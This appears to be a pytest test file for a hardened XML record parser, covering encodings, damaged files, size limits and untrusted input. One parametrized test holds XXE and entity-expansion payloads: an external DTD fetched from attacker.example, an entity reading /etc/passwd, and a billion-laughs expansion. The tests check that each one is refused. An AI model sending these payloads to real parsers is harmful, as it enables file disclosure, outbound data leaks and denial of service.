"""Records out of XML that somebody else made, and may have made to do harm."""

import io
from collections.abc import Callable

import pytest

from adapters._xml import Element, XmlLimits, records, root_of
from gateway.adapter_api import Finding, Malformed, Rule, TooLarge

Read = tuple[list[Element], list[Finding]]


def read(content: bytes | str, **limits: int) -> Read:
    raw = content.encode() if isinstance(content, str) else content
    found = list(records(io.BytesIO(raw), "a.xml", XmlLimits(**limits), lambda _: 1, lambda _: True))
    elements = [one for one in found if isinstance(one, Element)]
    return elements, [one for one in found if isinstance(one, Finding)]


def names(content: bytes | str) -> list[str]:
    elements, _ = read(content)
    return [element.children[0].text for element in elements]


def test_a_record_has_the_line_at_which_it_begins() -> None:
    elements, _ = read("<Set>\n<A>\n<B>1</B></A>\n\n<A>\n <B>2</B>\n</A></Set>")

    assert [(one.name, one.line, one.children[0].line) for one in elements] == [("A", 2, 3), ("A", 5, 6)]


def test_text_is_read_through_references_sections_and_comments() -> None:
    assert names("<S><A><B> \n x&amp;y &#233;<![CDATA[<z>]]><!-- not this --> w\n </B></A></S>") == [
        "x&y é<z> w"
    ]


def test_prefixes_and_hints_for_validation_are_left_out() -> None:
    (element,), _ = read(
        '<e:S xmlns:e="urn:e"><e:A xmlns="urn:x" xsi:type="e:T" id=" 7 "><e:B>1</e:B></e:A></e:S>'
    )

    assert (element.name, element.children[0].name, dict(element.attributes)) == ("A", "B", {"id": "7"})


def test_records_that_are_not_wanted_are_passed_over_with_what_is_in_them() -> None:
    content = b"<S><A><B>1</B></A><C><A>2</A></C><A><B>3</B></A></S>"

    found = list(records(io.BytesIO(content), "a.xml", XmlLimits(), lambda _: 1, lambda name: name == "A"))

    assert [one.children[0].text for one in found if isinstance(one, Element)] == ["1", "3"]


# --- attacks -----------------------------------------------------------------------------------------

LAUGHS = '<!DOCTYPE S [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><S><A>&b;</A></S>'


@pytest.mark.parametrize(
    "content",
    [
        LAUGHS,
        '<!DOCTYPE S SYSTEM "http://attacker.example/evil.dtd"><S><A/></S>',
        '<!DOCTYPE S [<!ENTITY a SYSTEM "file:///etc/passwd">]><S><A>&a;</A></S>',
        '<!DOCTYPE S [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><S><A/></S>',
        "<!DOCTYPE S><S><A/></S>",
        LAUGHS.encode("utf-16"),
        LAUGHS.encode("utf-16-be"),
        '<?xml version="1.0" encoding="ISO-8859-1"?>' + LAUGHS,
    ],
)
def test_a_document_type_is_refused_before_anything_is_expanded(content: bytes | str) -> None:
    with pytest.raises(Malformed, match="document type"):
        read(content)


def test_an_entity_that_nobody_declared_breaks_the_file_there() -> None:
    elements, (broken,) = read("<S><A><B>1</B></A>\n<A><B>&ext;</B></A></S>")

    assert len(elements) == 1
    assert (broken.rule, broken.line) == (Rule.FILE_DAMAGED, 2)


@pytest.mark.parametrize(
    ("content", "limits", "what"),
    [
        ("<S><A><B><C><D/></C></B></A></S>", {"max_depth": 4}, "an element"),
        ('<S><A a="1" b="2" c="3"/></S>', {"max_attributes": 2}, "an element"),
        ("<S><A><B>12345</B></A></S>", {"max_text": 4}, "a text"),
        ("<S><A><B/><B/><B/></A></S>", {"max_elements": 2}, "a record"),
    ],
)
def test_what_is_larger_than_any_record_is_refused(content: str, limits: dict[str, int], what: str) -> None:
    elements, findings = read(content)
    assert (len(elements), findings) == (1, [])

    with pytest.raises(Malformed, match=f"{what} is larger"):
        read(content, **limits)


def test_a_file_with_too_many_bytes_is_refused() -> None:
    with pytest.raises(TooLarge, match="more than 10 bytes"):
        read("<S><A/></S>", max_file_bytes=10)


class Endless(io.RawIOBase):
    """Begins well and then says the same for ever; counts what was asked of it."""

    def __init__(self, head: bytes, body: bytes) -> None:
        self._head = head
        self._body = body
        self.given = 0

    def read(self, size: int = -1, /) -> bytes:
        content = self._head or self._body * (size // len(self._body))
        self._head = b""
        self.given += len(content)
        return content


@pytest.mark.parametrize(
    ("head", "body"),
    [
        (b"<S><A ", b'x="1" '),
        (b'<S><A x="', b"11111111"),
        (b"<S><A>", b"<B>"),
        (b"<S><A>", b"<B/>"),
        (b"<S><A>", b"texttext"),
        (b"<S><!-- ", b"commentcomment"),
        (b"<S><", b"aaaaaaaa"),
    ],
)
def test_a_file_that_never_ends_a_tag_is_given_up_early(head: bytes, body: bytes) -> None:
    stream = Endless(head, body)

    with pytest.raises(Malformed, match="larger than the limits"):
        list(records(stream, "a.xml", XmlLimits(), lambda _: 1, lambda _: True))
    assert stream.given < 2_000_000


# --- broken files ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("end", "line"),
    [
        ("<A><B>3</C></A></S>", 4),
        ("<A>\n<B>Smith & Sons</B></A></S>", 5),
        ("<A><B>3</B>", 4),
        ("</S><A/>", 4),
        ("", 4),
    ],
)
def test_a_broken_file_gives_everything_before_the_break(end: str, line: int) -> None:
    elements, (broken,) = read(f"<S>\n<A><B>1</B></A>\n<A><B>2</B></A>\n{end}")

    assert [element.children[0].text for element in elements] == ["1", "2"]
    assert (broken.rule, broken.file, broken.line) == (Rule.FILE_DAMAGED, "a.xml", line)


def test_what_broke_is_said_without_what_stands_there() -> None:
    _, (broken,) = read("<S><A><B>Ada Okafor</C></A></S>")

    assert "Ada" not in broken.message
    assert "mismatched tag" in broken.message


def test_every_prefix_of_a_file_is_read_or_found_damaged() -> None:
    whole = "<?xml version='1.0'?><S>" + "".join(f"<A><B>ä{n}</B></A>" for n in range(9)) + "</S>"
    raw = whole.encode()

    for end in range(len(raw)):
        elements, findings = read(raw[:end])

        assert [one.children[0].text for one in elements] == [f"ä{n}" for n in range(len(elements))]
        assert Rule.FILE_DAMAGED in {found.rule for found in findings}


# --- encodings ---------------------------------------------------------------------------------------

NAMED = "<S>\n<A><B>Žofie Ångström</B></A></S>"


@pytest.mark.parametrize("mark", ["", "<?xml version='1.0' encoding='UTF-16'?>", "<?xml version='1.0'?>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_the_bytes_say_the_encoding_whatever_the_file_declares(mark: str, encoding: str) -> None:
    elements, _ = read((mark + NAMED).encode(encoding))

    assert elements[0].children[0].text == "Žofie Ångström"


@pytest.mark.parametrize(
    ("declared", "written"),
    [("windows-1252", "cp1252"), ("ISO-8859-1", "cp1252"), ("iso-8859-2", "iso-8859-2"), ("UTF-8", "utf-8")],
)
def test_a_declared_encoding_is_used(declared: str, written: str) -> None:
    text = f'<?xml version="1.0" encoding="{declared}"?><S><A><B>Žofie</B></A></S>'

    elements, findings = read(text.encode(written))

    assert (elements[0].children[0].text, findings) == ("Žofie", [])


def test_bytes_that_are_not_utf8_are_read_as_windows_1252_and_said_once_with_the_first_line() -> None:
    raw = "<S>\n<A><B>ok é</B></A>\n".encode() + b"<A><B>Jos\xe9</B></A><A><B>\x93Bo\x94</B></A></S>"

    elements, (found,) = read(raw)

    assert [one.children[0].text for one in elements] == ["ok é", "José", "“Bo”"]
    assert (found.rule, found.line) == (Rule.TEXT_ENCODING, 3)


@pytest.mark.parametrize("declared", ["zlib", "base64", "idna", "x-unknown", "unicode_escape"])
def test_an_encoding_that_is_none_of_texts_is_not_used(declared: str) -> None:
    elements, (found,) = read(f'<?xml version="1.0" encoding="{declared}"?><S><A><B>é</B></A></S>')

    assert elements[0].children[0].text == "é"
    assert found.rule is Rule.TEXT_ENCODING


def test_control_characters_are_dropped_and_do_not_break_the_file() -> None:
    elements, (found,) = read(b"<S>\n<A><B>A\x00d\x0ba\x1a</B></A></S>")

    assert elements[0].children[0].text == "Ada"
    assert found.rule is Rule.TEXT_NUL


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_character_may_be_cut_by_the_end_of_what_was_read(size: int) -> None:
    class Slow(io.BytesIO):
        def read(self, most: int | None = -1, /) -> bytes:
            return super().read(size)

    for encoding in ("utf-8", "utf-16"):
        stream = Slow(NAMED.encode(encoding))
        found = list(records(stream, "a.xml", XmlLimits(), lambda _: 1, lambda _: True))

        assert [one.children[0].text for one in found if isinstance(one, Element)] == ["Žofie Ångström"]


# --- roots -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "root"),
    [
        ("<a:Inter xmlns:a='u'>", "Inter"),
        ("no XML", None),
        ("", None),
        ("<?xml version='1.0'?><!-- c --> <X/>", "X"),
    ],
)
def test_the_root_is_known_without_the_rest(content: str, root: str | None) -> None:
    assert root_of(io.BytesIO(content.encode()), "a.xml", XmlLimits()) == root


def test_the_root_of_a_file_with_a_document_type_is_refused() -> None:
    with pytest.raises(Malformed):
        root_of(io.BytesIO(LAUGHS.encode()), "a.xml", XmlLimits())


@pytest.mark.parametrize("level", [lambda _: 0, lambda _: None])
def test_a_record_may_be_the_root_and_a_file_may_have_none(level: Callable[[str], int | None]) -> None:
    found = list(records(io.BytesIO(b"<A><B>1</B></A>"), "a.xml", XmlLimits(), level, lambda _: True))

    assert [one.name for one in found if isinstance(one, Element)] == (["A"] if level("") == 0 else [])
